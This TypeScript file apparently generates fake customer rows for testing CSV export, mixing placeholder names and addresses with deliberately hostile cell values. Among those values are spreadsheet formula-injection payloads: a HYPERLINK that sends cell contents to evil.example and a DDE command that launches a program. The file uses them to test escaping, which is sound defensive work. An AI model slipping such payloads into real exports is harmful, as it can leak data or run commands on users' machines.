import { csvCell } from '../http/csv-cell.ts';
import type { Customers } from './customers.ts';

/**
 * Assumption: the columns of a customer list; the help centre names most of them for the files that partners deliver.
 */
export const customerColumns = [
  'customer_id',
  'email',
  'salutation',
  'first_name',
  'last_name',
  'street',
  'post_code',
  'city',
  'ad_opt_out',
] as const;

const lineEnd = '\r\n';

const firstNames =
  'Änne,Björn,Clara,Dörte,Emil,Frieda,Götz,Hanna,İpek,Jörg,Käthe,Lars,Märit,Nils,Öykü,Paula,Rüya,Søren,Theo,Ümit,Vera,Wiebke,Yannick,Zoë'.split(
    ',',
  );

/** Words, so that nobody is meant. */
const lastNames =
  'Abendrot,Birnbaum,Dünenweg,Eichhörnchen,Federleicht,Gänseblum,Himmelblau,Immergrün,Jubelfest,Kürbiskern,Löwenzahn,Morgentau,Nußknacker,Übermorgen,Pusteblume,Quittengelb,Regenbogen,Süßholz,Taubenschlag,Vogelnest,Wolkenweiß,Zuckerguß'.split(
    ',',
  );

const streets =
  'Beispielstraße,Musterweg,An der Probebühne,Größenplatz,Rue de l’Exemple,Notenallee,Kulissengasse'.split(',');

const salutations = ['Frau', 'Herr', '', 'Mx'];

/** What somebody types into a field, or means harm with: each would be a formula in a spreadsheet, or breaks a reader. */
const oddCells: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
  '=1+1',
  '+49 89 000000',
  '-1',
  '@sum(A1:A9)',
  '\t=2+2',
  '\r=3+3',
  '"=4+4"',
  "=cmd|' /C calc'!A0",
  'semi;colon',
  '-2;=5+5',
  'two\r\nlines',
  'line\nfeed and "quotes", too',
  '＝6+6',
  ` ${'very long '.repeat(200)}`,
  'Ää Öö Üü ß – ’',
];

/** One cell in so many of a person's own is an odd one: five such cells in a row of nine make one in 500 of all. */
const oddOneIn = 278;

export const customerHeader: string = customerColumns.join(',') + lineEnd;

/** One customer as a line of the list, the same every time. */
export function customerRow(customers: Customers, customer: number): string {
  const { cities, idOf, draw } = customers;
  const who = draw(1, customer);
  const first = firstNames[who % firstNames.length]!;
  const last = lastNames[(who >>> 8) % lastNames.length]!;
  const lives = draw(2, customer);
  const segment = cityOf(customers, customer);
  const own = [
    first,
    last,
    `${streets[lives % streets.length]} ${1 + ((lives >>> 8) % 180)}`,
    // No real post code begins with two zeros.
    String((lives >>> 16) % 1_000).padStart(5, '0'),
    cities[segment] ?? '',
  ].map((value, column) => {
    const odd = draw(10 + column, customer);
    return odd % oddOneIn === 0 ? csvCell(oddCells[(odd >>> 12) % oddCells.length]!) : value;
  });
  const email = `kunde.${customer + 1}@mail.example`;
  const optOut = (who >>> 20) % 25 === 0;
  return `${idOf(customer)},${email},${salutations[(who >>> 16) % salutations.length]},${own.join(',')},${optOut}${lineEnd}`;
}

function cityOf({ segments }: Customers, customer: number): number {
  let low = 0;
  let high = segments.length - 1;
  while (low < high) {
    const middle = (low + high + 1) >>> 1;
    if (segments[middle]!.start <= customer) low = middle;
    else high = middle - 1;
  }
  return segments[low]?.city ?? 0;
}
